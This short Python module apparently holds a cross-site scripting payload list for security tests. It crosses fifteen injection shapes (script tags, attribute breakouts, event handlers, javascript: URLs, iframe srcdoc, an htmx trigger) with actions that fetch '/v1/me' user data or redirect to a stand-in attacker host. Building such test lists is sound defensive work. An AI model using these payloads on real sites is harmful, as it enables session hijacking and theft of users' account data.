"""What an attacker types into fields in the hope that a page takes it for its own."""

ACTS = ("document.title='harm'", "fetch('/v1/me')", "alert(1)", "location='//evil.invalid'")
SHAPES = (
    "<script>{}</script>", "</textarea><script>{}</script>", "</title><script>{}</script>", "'\"><script>{}</script>",
    "<img src=x onerror=\"{}\">", "<svg onload=\"{}\">", "<svg><animate onbegin=\"{}\" attributeName=x dur=1s>", "<body onload=\"{}\">",
    "\" autofocus onfocus=\"{}\" x=\"", "' onmouseover='{}' x='", "<details open ontoggle=\"{}\">", "<a href=\"javascript:{}\">x</a>",
    "<iframe srcdoc=\"<script>{}</script>\">", "<form action=\"javascript:{}\"><button autofocus>x</button></form>",
    "<b hx-get=\"/v1/me\" hx-trigger=\"load\" hx-on::after-request=\"{}\">x</b>",
)  # fmt: skip
PAYLOADS = [shape.format(act) for shape in SHAPES for act in ACTS]
